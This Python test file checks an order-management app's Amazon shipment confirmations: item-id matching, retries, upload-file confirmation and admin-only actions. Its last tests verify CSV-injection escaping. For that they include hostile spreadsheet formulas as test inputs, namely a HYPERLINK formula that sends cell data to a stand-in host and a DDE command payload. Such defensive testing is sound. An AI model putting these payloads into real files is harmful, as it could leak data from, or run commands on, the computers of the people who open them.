"""Amazon shipment confirmations: lines from the All Orders report resolved through getOrderItems, what
is retried and what is refused, confirming by upload file (download, then mark uploaded), and the
channel page's Retry. Against the fake Amazon; every test on SQLite and on PostgreSQL.
"""
from __future__ import annotations

import re
from datetime import timedelta

import sqlalchemy as sa

from oms_web.channels import reports
from oms_web.channels import confirmations as confirmations_module
from oms_web.channels import sync as sync_module
from oms_web.channels import upload_file
from oms_web.channels.amazon import UPLOAD_COLUMNS
from oms_web.channels.confirmations import retry_delay, send_due_confirmations
from oms_web.domain.invariants import check_invariants
from oms_web.extensions import db
from oms_web.models import ChannelKind, Order, OrderEvent, SalesChannel, ShipmentConfirmation, utcnow

from .fakes import AMAZON_CREDENTIALS, amazon_order
from tests.helpers.amazon_reports import ALL_ORDERS, all_orders_row, tsv
from tests.helpers.signing_in import admin_client, page_token
from tests.helpers.confirmations import ship


def report_order(shop, channel: SalesChannel, order_id: str, *items: tuple[str, int]) -> Order:
    """An order imported from the All Orders report: its lines have no Amazon order item id."""
    rows = [all_orders_row(order_id, sku, str(quantity), f"{10 * quantity}.00") for sku, quantity in items]
    reports.import_file(db.session.get(SalesChannel, channel.id), reports.AMAZON_ALL_ORDERS, tsv(ALL_ORDERS, rows).encode())
    db.session.rollback()
    return db.session.scalar(sa.select(Order).where(Order.channel_order_id == order_id)
                             .execution_options(populate_existing=True))


def confirmations() -> dict[int, tuple]:
    db.session.rollback()
    found = db.session.scalars(sa.select(ShipmentConfirmation).order_by(ShipmentConfirmation.id)
                               .execution_options(populate_existing=True)).all()
    state = {c.id: (c.status, c.attempts, c.last_error, c.next_attempt_at, c.remote_id, c.sent_at) for c in found}
    db.session.rollback()
    return state


def state(shop) -> tuple:
    """Every confirmation, every channel's settings and every number of the shop: what a refused
    request or a download must leave as it was."""
    db.session.rollback()
    settings = db.session.execute(sa.select(SalesChannel.id, SalesChannel.settings).order_by(SalesChannel.id)).all()
    return confirmations(), [tuple(row) for row in settings], shop.snapshot()


def set_settings(channel: SalesChannel, **changes) -> None:
    row = db.session.get(SalesChannel, channel.id)
    row.settings = {**row.settings, **changes}
    db.session.commit()


def send(channel: SalesChannel, *, now=None, pauses: list | None = None):
    result = send_due_confirmations(channel.id, now=now, sleep=(pauses if pauses is not None else []).append)
    db.session.rollback()
    return result


# ------------------------------------------------------------------ lines without an order item id

def test_an_order_from_the_all_orders_report_is_confirmed_with_the_item_ids_amazon_gives_its_lines(
        shop, amazon, amazon_fake):
    shop.product("A", in_hand=10)
    shop.product("B", in_hand=10)
    order = report_order(shop, amazon, "202-0001000-0001000", ("A", 1), ("B", 2), ("A", 3))
    assert [line.channel_line_id for line in order.lines] == [None, None, None]
    # Amazon's copy lists them in another order: the two A items are told apart by their quantities.
    amazon_fake.add(amazon_order("202-0001000-0001000", items=[("A", 3, "30.00"), ("B", 2, "20.00"), ("A", 1, "10.00")]))
    first_a, b, second_a = order.lines
    ship(shop, order, {first_a.id: 1, b.id: 1})
    ship(shop, order, {second_a.id: 3, b.id: 1}, tracking="RM2")

    result = send(amazon)

    assert (result.sent, result.failed, result.errors) == (2, 0, [])
    assert [body["packageDetail"]["orderItems"] for _, body in amazon_fake.confirmations] == [
        [{"orderItemId": "000100002", "quantity": 1}, {"orderItemId": "000100001", "quantity": 1}],
        [{"orderItemId": "000100001", "quantity": 1}, {"orderItemId": "000100000", "quantity": 3}]]
    assert len(amazon_fake.api_calls("/orderItems")) == 2  # once per confirmation that needed them
    assert {status for status, *_ in confirmations().values()} == {"sent"}
    assert check_invariants() == []


def test_an_order_imported_with_its_item_ids_is_confirmed_without_asking_for_its_items(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    amazon_fake.add(amazon_order("202-0001001-0001001", items=[("A", 2, "20.00")]))
    sync_module.sync_channel(amazon.id, sleep=lambda s: None)
    db.session.rollback()
    ship(shop, db.session.scalar(sa.select(Order).where(Order.channel_order_id == "202-0001001-0001001")))
    amazon_fake.calls.clear()

    assert send(amazon).sent == 1
    assert amazon_fake.api_calls("/orderItems") == []


def test_a_line_amazons_order_does_not_have_is_refused_for_a_person_and_nothing_is_sent(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    shop.product("B", in_hand=5)
    order = report_order(shop, amazon, "202-0001002-0001002", ("A", 1), ("B", 1))
    amazon_fake.add(amazon_order("202-0001002-0001002", items=[("A", 1, "10.00")]))
    confirmation_id = ship(shop, order)

    result = send(amazon)

    status, attempts, error, *_ = confirmations()[confirmation_id]
    assert (result.sent, result.failed) == (0, 1)
    assert (status, attempts) == ("failed", 1)
    assert "B on" in error and "matches no item of Amazon's order 202-0001002-0001002" in error
    assert amazon_fake.confirmations == []


def test_an_order_amazon_does_not_know_is_refused_for_a_person(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    confirmation_id = ship(shop, report_order(shop, amazon, "202-0001003-0001003", ("A", 1)))

    send(amazon)

    status, _, error, *_ = confirmations()[confirmation_id]
    assert status == "failed" and "404" in error and "not found" in error


# ------------------------------------------------------------------ what is retried, for as long as it takes

def test_refused_credentials_keep_every_confirmation_waiting_with_the_reason_until_they_are_fixed(
        shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    first = ship(shop, report_order(shop, amazon, "202-0001010-0001010", ("A", 1)))
    second = ship(shop, report_order(shop, amazon, "202-0001011-0001011", ("A", 1)))
    amazon_fake.add(amazon_order("202-0001010-0001010"), amazon_order("202-0001011-0001011"))
    set_settings(amazon, credentials={**AMAZON_CREDENTIALS, "client_secret": "wrong"})
    now = utcnow()

    result = send(amazon, now=now)

    rows = confirmations()
    assert result.failed == 1 and all("will retry" in error for error in result.errors)
    status, attempts, error, due, *_ = rows[first]  # the one tried waits its pause
    assert (status, attempts, due) == ("pending", 1, now + timedelta(minutes=1))
    assert error.startswith("Credentials refused: check the channel's settings") and "invalid_client" in error
    status, attempts, error, due, *_ = rows[second]  # the rest keep their place and say why they wait
    assert (status, attempts) == ("pending", 0) and due <= now
    assert error.startswith("Waiting: Credentials refused: check the channel's settings")
    assert len(amazon_fake.token_requests) == 1  # asked once, not once per confirmation
    assert amazon_fake.api_calls("/shipmentConfirmation") == []

    set_settings(amazon, credentials=dict(AMAZON_CREDENTIALS))
    later = send(amazon, now=now + timedelta(minutes=1))

    rows = confirmations()
    assert later.sent == 2 and rows[first][:3] == ("sent", 2, None) and rows[second][:3] == ("sent", 1, None)


def test_a_token_the_api_keeps_refusing_after_a_refresh_is_a_credentials_failure(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    confirmation_id = ship(shop, report_order(shop, amazon, "202-0001012-0001012", ("A", 1)))
    amazon_fake.token_life_calls = 0  # every token is refused by the API (403): a seller who revoked the app

    send(amazon)

    status, attempts, error, *_ = confirmations()[confirmation_id]
    assert (status, attempts) == ("pending", 1)
    assert error.startswith("Credentials refused: check the channel's settings") and "403" in error


def test_a_channel_that_keeps_failing_holds_back_the_other_confirmations_and_never_gives_up(
        shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    first = ship(shop, report_order(shop, amazon, "202-0001020-0001020", ("A", 1)))
    second = ship(shop, report_order(shop, amazon, "202-0001021-0001021", ("A", 1)))
    amazon_fake.add(amazon_order("202-0001020-0001020"), amazon_order("202-0001021-0001021"))
    db.session.get(ShipmentConfirmation, first).attempts = 500  # weeks of failures already
    db.session.commit()
    amazon_fake.fail_next = 1_000
    amazon_fake.fail_paths = ("/shipmentConfirmation",)
    now = utcnow()

    send(amazon, now=now)

    rows = confirmations()
    assert rows[first][:2] == ("pending", 501) and rows[first][3] == now + confirmations_module.RETRY_CAP
    assert rows[second][:2] == ("pending", 0) and rows[second][2].startswith("Waiting:") and "503" in rows[second][2]
    # The first one's call was retried by the transport; the second one was not tried at all.
    assert len(amazon_fake.api_calls("/shipmentConfirmation")) == 6

    # Next run the second goes first: one confirmation the channel keeps failing never holds the queue.
    amazon_fake.fail_next = 0
    later = send(amazon, now=now + timedelta(minutes=5))
    rows = confirmations()
    assert later.sent == 1 and rows[second][0] == "sent" and rows[first][:2] == ("pending", 501)


def test_a_failure_that_concerns_one_confirmation_does_not_stop_the_others(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    first = ship(shop, report_order(shop, amazon, "202-0001022-0001022", ("A", 1)))
    second = ship(shop, report_order(shop, amazon, "202-0001023-0001023", ("A", 1)))
    amazon_fake.add(amazon_order("202-0001022-0001022"), amazon_order("202-0001023-0001023"))
    amazon_fake.fail_next = 1
    amazon_fake.failure = 409
    amazon_fake.fail_paths = ("/shipmentConfirmation",)

    result = send(amazon)

    rows = confirmations()
    assert result.sent == 1 and rows[second][0] == "sent"
    assert rows[first][:2] == ("pending", 1) and "409" in rows[first][2]  # tried again after its pause


def test_the_pause_between_attempts_grows_then_stays_at_the_cap_however_many_attempts():
    assert [retry_delay(n) for n in (1, 2, 3, 4)] == [timedelta(minutes=m) for m in (1, 2, 4, 8)]
    assert retry_delay(7) == retry_delay(10_000) == confirmations_module.RETRY_CAP


# ------------------------------------------------------------------ confirming by upload file

def test_a_channel_that_confirms_by_file_sends_nothing_by_the_api(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    amazon_fake.add(amazon_order("202-0001030-0001030"))
    sync_module.sync_channel(amazon.id, sleep=lambda s: None)
    db.session.rollback()
    confirmation_id = ship(shop, db.session.scalar(sa.select(Order).where(Order.channel_order_id == "202-0001030-0001030")))
    set_settings(amazon, confirm_by="file")

    run = sync_module.sync_channel(amazon.id, sleep=lambda s: None)
    result = send(amazon, now=utcnow() + timedelta(days=1))

    assert run.status == "ok" and result.sent == result.failed == 0
    assert amazon_fake.api_calls("/shipmentConfirmation") == [] and amazon_fake.confirmations == []
    assert confirmations()[confirmation_id][:2] == ("pending", 0)
    db.session.rollback()
    assert [c.id for c in upload_file.awaiting_file(db.session.get(SalesChannel, amazon.id))] == [confirmation_id]


def test_an_api_channel_offers_only_what_the_api_refused_in_the_file(shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    refused = ship(shop, report_order(shop, amazon, "202-0001031-0001031", ("A", 1)))  # Amazon does not know it
    send(amazon)
    waiting = ship(shop, report_order(shop, amazon, "202-0001032-0001032", ("A", 1)))

    db.session.rollback()
    offered = [c.id for c in upload_file.awaiting_file(db.session.get(SalesChannel, amazon.id))]

    assert offered == [refused] and waiting not in offered


def amazon_by_file(shop) -> SalesChannel:
    channel = SalesChannel(name="Amazon FR", kind=ChannelKind.AMAZON, settings={"confirm_by": "file"})
    db.session.add(channel)
    db.session.commit()
    shop.product("A", in_hand=10)
    return channel


def test_the_page_offers_the_file_whose_download_changes_nothing_then_marks_exactly_its_shipments_uploaded(app, shop):
    channel = amazon_by_file(shop)
    first = ship(shop, report_order(shop, channel, "202-0001040-0001040", ("A", 2)))
    second = ship(shop, report_order(shop, channel, "202-0001041-0001041", ("A", 1)))
    client = admin_client(app, shop)
    page = client.get(f"/channels/{channel.id}").get_data(as_text=True)
    assert "confirms shipments <strong>by upload file</strong>" in page and "Mark these 2 as uploaded" in page
    link = re.search(r'href="([^"]*/confirmations/file[^"]*)"[^>]*>Download shipment confirmation file', page).group(1)
    form_ids = re.search(r'name="ids" value="([^"]+)"', page).group(1)
    assert form_ids == f"{first},{second}"
    before = state(shop)

    download = client.get(link.replace("&amp;", "&"))
    again = client.get(link.replace("&amp;", "&"))

    assert download.status_code == 200 and download.data == again.data
    assert download.headers["Content-Type"].startswith("text/tab-separated-values")
    assert "attachment" in download.headers["Content-Disposition"]
    rows = [row.split("\t") for row in download.get_data(as_text=True).splitlines()]
    assert rows[0] == list(UPLOAD_COLUMNS)
    # All Orders report lines have no item ids: a row with item and quantity blank confirms the whole order.
    assert [(row[0], row[1], row[2], row[4], row[6]) for row in rows[1:]] == [
        ("202-0001040-0001040", "", "", "Royal Mail", "RM123456789GB"),
        ("202-0001041-0001041", "", "", "Royal Mail", "RM123456789GB")]
    assert state(shop) == before  # the download changed nothing

    late = ship(shop, report_order(shop, channel, "202-0001042-0001042", ("A", 1)))  # shipped after the download
    marked = client.post(f"/channels/{channel.id}/confirmations/uploaded",
                         data={"csrf_token": page_token(client, f"/channels/{channel.id}"), "ids": form_ids})

    assert marked.status_code == 302
    rows = confirmations()
    assert [rows[i][0] for i in (first, second, late)] == ["sent", "sent", "pending"]
    assert rows[first][4] == "upload file" and rows[first][5] is not None
    events = db.session.scalars(sa.select(OrderEvent.message).where(OrderEvent.kind == "shipment_confirmed")).all()
    assert len(events) == 2 and all("by upload file" in message for message in events)
    after = client.get(f"/channels/{channel.id}").get_data(as_text=True)
    assert "Mark these 1 as uploaded" in after and re.search(r'name="ids" value="([^"]+)"', after).group(1) == str(late)

    before = state(shop)
    twice = client.post(f"/channels/{channel.id}/confirmations/uploaded",
                        data={"csrf_token": page_token(client, f"/channels/{channel.id}"), "ids": form_ids})
    assert twice.status_code == 409 and "marked confirmed already" in twice.get_data(as_text=True)
    assert state(shop) == before
    assert check_invariants() == []


def test_bad_or_foreign_ids_and_a_missing_token_change_nothing(app, shop):
    channel = amazon_by_file(shop)
    other = SalesChannel(name="Amazon IT", kind=ChannelKind.AMAZON, settings={"confirm_by": "file"})
    db.session.add(other)
    db.session.commit()
    mine = ship(shop, report_order(shop, channel, "202-0001050-0001050", ("A", 1)))
    theirs = ship(shop, report_order(shop, other, "202-0001051-0001051", ("A", 1)))
    client = admin_client(app, shop)
    base = f"/channels/{channel.id}"
    before = state(shop)

    for ids, status in (("", 422), ("x", 422), (f"{mine},", 422), ("-1", 422), ("9" * 30, 422),
                        (",".join(["1"] * 201), 422), (str(theirs), 409), ("999999", 409)):
        download = client.get(f"{base}/confirmations/file", query_string={"ids": ids})
        assert download.status_code == status, ids
        assert "attachment" not in download.headers.get("Content-Disposition", "")
    assert client.get(f"{base}/confirmations/file").status_code == 422
    assert client.get(f"/channels/{shop.web.id}/confirmations/file", query_string={"ids": str(mine)}).status_code == 404

    for action in ("uploaded", "retry"):
        for ids, status in (("", 422), ("x", 422), (f"{mine},x", 422), (f"{mine},{theirs}", 404), ("999999", 404)):
            response = client.post(f"{base}/confirmations/{action}",
                                   data={"csrf_token": page_token(client, base), "ids": ids})
            assert response.status_code == status, (action, ids)
            assert "<main" in response.get_data(as_text=True)  # the page, with the message
        no_token = client.post(f"{base}/confirmations/{action}", data={"ids": str(mine)})
        assert no_token.status_code == 400
    not_refused = client.post(f"{base}/confirmations/retry", data={"csrf_token": page_token(client, base),
                                                                    "ids": str(mine)})
    assert not_refused.status_code == 409 and "not refused" in not_refused.get_data(as_text=True)
    assert state(shop) == before


def test_only_an_admin_may_download_mark_or_retry(app, shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    confirmation_id = ship(shop, report_order(shop, amazon, "202-0001060-0001060", ("A", 1)))
    send(amazon)  # Amazon does not know the order: refused, so in the file and retryable
    before = state(shop)
    for user in (shop.manager, shop.staff):
        client = app.test_client()
        token = page_token(client, "/login")
        client.post("/login", data={"email": user.email, "password": "correct horse battery", "csrf_token": token})
        token = page_token(client, "/orders")
        assert client.get(f"/channels/{amazon.id}").status_code == 403
        assert client.get(f"/channels/{amazon.id}/confirmations/file",
                          query_string={"ids": str(confirmation_id)}).status_code == 403
        for action in ("uploaded", "retry"):
            response = client.post(f"/channels/{amazon.id}/confirmations/{action}",
                                   data={"csrf_token": token, "ids": str(confirmation_id)})
            assert response.status_code == 403, (user.role, action)
        assert client.post(f"/channels/{amazon.id}", data={"csrf_token": token, "confirm_by": "file"}).status_code == 403
    assert state(shop) == before


def test_a_refused_confirmation_is_shown_with_its_error_and_retry_puts_it_back_in_the_queue_due_now(
        app, shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    confirmation_id = ship(shop, report_order(shop, amazon, "202-0001070-0001070", ("A", 1)))
    send(amazon)  # Amazon does not know the order yet
    client = admin_client(app, shop)
    page = client.get(f"/channels/{amazon.id}").get_data(as_text=True)
    assert "refused" in page and "not found" in page and ">Retry</button>" in page
    assert "Download shipment confirmation file" in page  # the API channel's fall-back

    retried = client.post(f"/channels/{amazon.id}/confirmations/retry",
                          data={"csrf_token": page_token(client, f"/channels/{amazon.id}"), "ids": str(confirmation_id)})

    assert retried.status_code == 302
    status, attempts, error, due, *_ = confirmations()[confirmation_id]
    assert (status, attempts) == ("pending", 0) and due <= utcnow() and "not found" in error
    assert db.session.scalar(sa.select(sa.func.count()).select_from(OrderEvent)
                             .where(OrderEvent.kind == "confirmation_retried")) == 1
    page = client.get(f"/channels/{amazon.id}").get_data(as_text=True)
    assert ">Retry</button>" not in page and "Download shipment confirmation file" not in page

    amazon_fake.add(amazon_order("202-0001070-0001070"))
    assert send(amazon).sent == 1  # due now: the next run sends it
    assert confirmations()[confirmation_id][:3] == ("sent", 1, None)


def test_the_confirmation_method_is_chosen_in_the_channel_form_and_a_bad_choice_changes_nothing(app, shop, amazon):
    client = admin_client(app, shop)
    page = client.get(f"/channels/{amazon.id}").get_data(as_text=True)
    assert 'name="confirm_by"' in page and '<option value="api" selected>' in page
    form = {"active": "1", "base_url": amazon.settings["base_url"], "token_url": amazon.settings["token_url"],
            "marketplace_id": "A13V1IB3VIYZZH"}
    before = state(shop)

    for bad in ("", "email", "FILE"):
        refused = client.post(f"/channels/{amazon.id}", data={
            **form, "confirm_by": bad, "csrf_token": page_token(client, f"/channels/{amazon.id}")})
        assert refused.status_code == 422 and "Choose how shipments are confirmed" in refused.get_data(as_text=True)
    assert state(shop) == before  # not even the marketplace id was saved

    saved = client.post(f"/channels/{amazon.id}", data={
        **form, "confirm_by": "file", "csrf_token": page_token(client, f"/channels/{amazon.id}")})

    assert saved.status_code == 302
    db.session.rollback()
    settings = db.session.get(SalesChannel, amazon.id).settings
    assert settings["confirm_by"] == "file" and settings["marketplace_id"] == "A13V1IB3VIYZZH"
    assert settings["credentials"] == AMAZON_CREDENTIALS
    assert '<option value="file" selected>' in client.get(f"/channels/{amazon.id}").get_data(as_text=True)
    kept = client.post(f"/channels/{amazon.id}", data={**form, "csrf_token": page_token(client, f"/channels/{amazon.id}")})
    assert kept.status_code == 302 and db.session.get(SalesChannel, amazon.id).settings["confirm_by"] == "file"


def test_a_web_store_channel_has_no_confirmation_method(app, shop):
    client = admin_client(app, shop)
    assert 'name="confirm_by"' not in client.get(f"/channels/{shop.web.id}").get_data(as_text=True)
    before = state(shop)
    saved = client.post(f"/channels/{shop.web.id}", data={
        "active": "1", "confirm_by": "file", "csrf_token": page_token(client, f"/channels/{shop.web.id}")})
    assert saved.status_code == 302 and state(shop) == before


def test_part_of_an_order_without_item_ids_is_kept_out_of_the_file_and_confirmed_by_hand(app, shop):
    """A file row without an item id confirms the whole order: a partial shipment cannot be one."""
    channel = amazon_by_file(shop)
    shop.product("B", in_hand=10)
    order = report_order(shop, channel, "202-0001050-0001050", ("A", 2), ("B", 1))
    part = ship(shop, order, {order.lines[0].id: 2})
    whole = ship(shop, report_order(shop, channel, "202-0001051-0001051", ("A", 1)))
    client = admin_client(app, shop)
    page = client.get(f"/channels/{channel.id}").get_data(as_text=True)

    assert "Mark these 1 as uploaded" in page and re.search(r'name="ids" value="([^"]+)"', page).group(1) == str(whole)
    assert "it ships part of an order whose Amazon item ids are unknown" in page
    rows = [row.split("\t") for row in client.get(f"/channels/{channel.id}/confirmations/file?ids={whole},{part}")
            .get_data(as_text=True).splitlines()[1:]]
    assert [row[0] for row in rows] == ["202-0001051-0001051"]  # the partial one is not in it, even when asked for

    by_hand = client.post(f"/channels/{channel.id}/confirmations/uploaded",
                          data={"csrf_token": page_token(client, f"/channels/{channel.id}"), "ids": str(part)})
    assert by_hand.status_code == 302
    assert confirmations()[part][0] == "sent" and confirmations()[whole][0] == "pending"


def test_a_refused_confirmation_retried_meanwhile_is_not_marked_uploaded_from_an_old_page(app, shop, amazon, amazon_fake):
    shop.product("A", in_hand=5)
    confirmation_id = ship(shop, report_order(shop, amazon, "202-0001060-0001060", ("A", 1)))
    amazon_fake.add(amazon_order("202-0001060-0001060"))
    amazon_fake.fail_next, amazon_fake.failure, amazon_fake.fail_paths = 1, 400, ("/shipmentConfirmation",)
    send(amazon)
    assert confirmations()[confirmation_id][0] == "failed"
    client = admin_client(app, shop)
    page = f"/channels/{amazon.id}"
    old_token = page_token(client, page)  # the page, read while it was refused, offers it in the file
    retried = client.post(f"{page}/confirmations/retry", data={"csrf_token": old_token, "ids": str(confirmation_id)})
    assert retried.status_code == 302 and confirmations()[confirmation_id][0] == "pending"
    before = state(shop)

    marked = client.post(f"{page}/confirmations/uploaded", data={"csrf_token": old_token, "ids": str(confirmation_id)})

    assert marked.status_code == 409 and "went back to the API" in marked.get_data(as_text=True)
    assert state(shop) == before


def test_an_edited_order_without_item_ids_is_kept_out_of_the_file(app, shop):
    """Amazon reads a row without item ids as the whole order it sold: more than an edited order ships."""
    from oms_web.domain.orders import LineChange, edit_order

    channel = amazon_by_file(shop)
    shop.product("B", in_hand=10)
    order = report_order(shop, channel, "202-0001070-0001070", ("A", 3), ("B", 1))
    edit_order(shop.staff, order.id, [LineChange(quantity=2, line_id=order.lines[0].id),
                                      LineChange(quantity=0, line_id=order.lines[1].id)])
    db.session.rollback()
    order = db.session.get(Order, order.id)
    confirmation_id = ship(shop, order)  # everything the order now holds
    client = admin_client(app, shop)

    page = client.get(f"/channels/{channel.id}").get_data(as_text=True)

    assert "Download shipment confirmation file" not in page and "it ships an edited order" in page
    assert "Confirmed on Seller Central" in page and confirmations()[confirmation_id][0] == "pending"


def test_the_confirmation_file_neutralises_cells_a_spreadsheet_would_run_as_formulas(app, shop):
    """The service level comes from Amazon's report and the tracking number from whoever keyed it in:
    neither may run as a formula when the seller opens the file in a spreadsheet (OWASP CSV injection)."""
    channel = amazon_by_file(shop)
    rows = [all_orders_row("202-0001050-0001050", "A", "1", "10.00",
                           **{"ship-service-level": '=HYPERLINK("http://e.example/"&A1)'})]
    reports.import_file(db.session.get(SalesChannel, channel.id), reports.AMAZON_ALL_ORDERS, tsv(ALL_ORDERS, rows).encode())
    db.session.rollback()
    order = db.session.scalar(sa.select(Order).where(Order.channel_order_id == "202-0001050-0001050"))
    confirmation_id = ship(shop, order, tracking="@SUM(1+1)")
    client = admin_client(app, shop)

    download = client.get(f"/channels/{channel.id}/confirmations/file?ids={confirmation_id}")

    assert download.status_code == 200
    header, row = [line.split("\t") for line in download.get_data(as_text=True).splitlines()]
    assert (row[0], row[6], row[7]) == (
        "202-0001050-0001050", "'@SUM(1+1)", '\'=HYPERLINK("http://e.example/"&A1)')


def test_every_table_the_product_writes_quotes_formula_cells_and_keeps_its_columns():
    from oms_web.tables import safe_cell, write_table

    assert [safe_cell(v) for v in ("=1+1", "+44 20", "-3", "@x", "\tA", "\rA", "a=b", "", None, 12, -1)] == [
        "'=1+1", "'+44 20", "'-3", "'@x", "'\tA", "'\rA", "a=b", "", "", "12", "'-1"]
    assert write_table([("a", "b"), ("=cmd|' /C calc'!A0", 'say "hi", then\nleave')]) == (
        'a,b\n\'=cmd|\' /C calc\'!A0,"say ""hi"", then\nleave"\n')
    assert write_table([("a", "b"), ("x\ty", " -z")], delimiter="\t") == "a\tb\nx y\t'-z\n"
